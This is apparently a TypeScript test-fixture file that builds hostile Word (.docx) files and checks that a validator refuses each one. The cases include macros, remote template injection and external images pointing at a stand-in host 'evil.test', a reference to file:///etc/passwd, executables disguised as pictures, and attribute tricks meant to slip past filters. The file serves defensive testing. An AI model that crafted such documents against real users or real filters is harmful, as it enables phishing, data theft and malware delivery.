import type { HostileFile } from "./hostile-file.ts";
import { contentTypes, docxWith, relationship, relationshipsOf } from "./plain-docx.ts";

const outside = "https://evil.test/x";
const isExternal = 'TargetMode="External"';
const ofDocument = "word/_rels/document.xml.rels";

function unsafe(name: string, texts: Readonly<Record<string, string | Uint8Array>>): HostileFile {
  return { name, make: () => docxWith(texts), refusedAs: "unsafe" };
}

const related = (name: string, part: string, relationships: string) =>
  unsafe(name, { [part]: relationshipsOf(relationships) });

/** The parts that may refer to others; the document's own is only one of them. */
const referring = [
  "_rels/.rels",
  "word/_rels/settings.xml.rels",
  "word/_rels/header1.xml.rels",
  "word/_rels/footer9.xml.rels",
  "word/_rels/footnotes.xml.rels",
  "word/_rels/comments.xml.rels",
  "word/_rels/numbering.xml.rels",
  "word/theme/_rels/theme1.xml.rels",
  "customXml/_rels/item1.xml.rels",
  "elsewhere/_RELS/any.xml.RELS",
];

const disguises: Readonly<Record<string, string>> = {
  "with letters written as numbers": `<Relationship Id="r1" Type="x/image" Target="${outside}" TargetMode="&#69;xternal"/>`,
  "in single quotes": `<Relationship Id='r1' Type='x/image' Target='${outside}' TargetMode='External'/>`,
  "in capitals": `<Relationship Id="r1" Type="x/image" Target="${outside}" TargetMode="EXTERNAL"/>`,
  "with spaces": `<Relationship Id = "r1" Type = "x/image" Target = "${outside}" TargetMode = " External "/>`,
  "with a prefix": `<p:Relationship xmlns:p="x" Id="r1" Type="x/image" Target="${outside}" TargetMode="External"/>`,
  "with a greater-than sign": `<Relationship Id="a>b" Type="x/image" Target="${outside}" TargetMode="External"/>`,
  "behind a harmless link": `${relationship("hyperlink", outside, isExternal)}<Relationship Id="r2" Type="x/image" Target="${outside}?/hyperlink" TargetMode="External"/>`,
};

const hidden: Readonly<Record<string, Uint8Array>> = {
  "a program of Windows": Buffer.from("MZ\u0090\0\u0003\0\0\0", "latin1"),
  "a program of Linux": Buffer.from("\u007FELF\u0002\u0001", "latin1"),
  "an archive": Buffer.from("PK\u0003\u0004\u0014\0", "latin1"),
  "another archive": Buffer.from("7z\u00BC\u00AF\u0027\u001C", "latin1"),
  "a third archive": Buffer.from("Rar!\u001A\u0007", "latin1"),
  "a compound file, as macros are": Buffer.from("d0cf11e0a1b11ae1", "hex"),
  "a PDF": Buffer.from("%PDF-1.7\n"),
};

const endings = ["exe", "dll", "scr", "msi", "bat", "cmd", "ps1", "js", "vbs", "hta", "lnk", "jar"];
const archives = ["zip", "7z", "rar", "tar.gz", "iso", "docx", "docm", "xlsm", "html", "mht"];

export const docxFiles: readonly HostileFile[] = [
  unsafe("macros", { "word/vbaProject.bin": "x" }),
  related(
    "a picture that loads from elsewhere",
    ofDocument,
    relationship("image", outside, isExternal),
  ),
  related("a text of another format", ofDocument, relationship("aFChunk", "../page.htm")),
  related(
    "a picture from a file of this machine",
    ofDocument,
    relationship("image", "file:///etc/passwd", isExternal),
  ),
  related(
    "a picture from a device",
    ofDocument,
    relationship("image", "file:///dev/zero", isExternal),
  ),
  ...referring.map((part) =>
    related(`${part} that loads from elsewhere`, part, relationship("image", outside, isExternal)),
  ),
  ...["oleObject", "package", "control", "subDocument"].map((type) =>
    related(`a part of the kind ${type}`, ofDocument, relationship(type, "x.dat")),
  ),
  ...["frame", "video", "oleObject", "externalLinkPath"].map((type) =>
    related(`a ${type} from elsewhere`, ofDocument, relationship(type, outside, isExternal)),
  ),
  related(
    "another format by the strict names",
    ofDocument,
    '<Relationship Id="r1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/aFChunk" Target="x.htm"/>',
  ),
  ...[
    "https://evil.test/x.dotm",
    "file://evil.test/x.dotm",
    "\\\\evil.test\\x.dotm",
    "file:////evil.test/x.dotm",
  ].map((template) =>
    related(
      `the template ${template}`,
      "word/_rels/settings.xml.rels",
      relationship("attachedTemplate", template, isExternal),
    ),
  ),
  ...Object.entries(disguises).map(([how, text]) =>
    related(`a picture from elsewhere ${how}`, ofDocument, text),
  ),
  ...Object.entries(hidden).map(([what, bytes]) =>
    unsafe(`${what}, named a picture`, { "word/media/image1.png": bytes }),
  ),
  ...[...endings, ...archives].map((ending) =>
    unsafe(`a file that ends with ${ending}`, { [`word/media/x.${ending}`]: "x" }),
  ),
  ...[
    "embeddings/oleObject1.dat",
    "activeX/activeX1.xml",
    "afchunk1.dat",
    "VBAPROJECT.BIN",
    "vbaData.xml",
  ].map((part) => unsafe(`the part ${part}`, { [`word/${part}`]: "<x/>" })),
  unsafe("a kind that says macros", {
    "[Content_Types].xml": contentTypes(
      '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    ),
  }),
  {
    name: "relationships without an end",
    make: () => docxWith({ [ofDocument]: "<Relationships><Relationship" }),
    refusedAs: "damaged",
  },
  {
    name: "many relationships in each of three parts",
    make: () => {
      const many = relationshipsOf(relationship("hyperlink", outside, isExternal).repeat(1_500));
      return docxWith({ "a/_rels/a.rels": many, "b/_rels/b.rels": many, "c/_rels/c.rels": many });
    },
    refusedAs: "too_large",
  },
  {
    name: "a hundred thousand relationships",
    make: () =>
      docxWith({
        [ofDocument]: relationshipsOf(
          relationship("hyperlink", outside, isExternal).repeat(100_000),
        ),
      }),
    refusedAs: "too_large",
  },
];
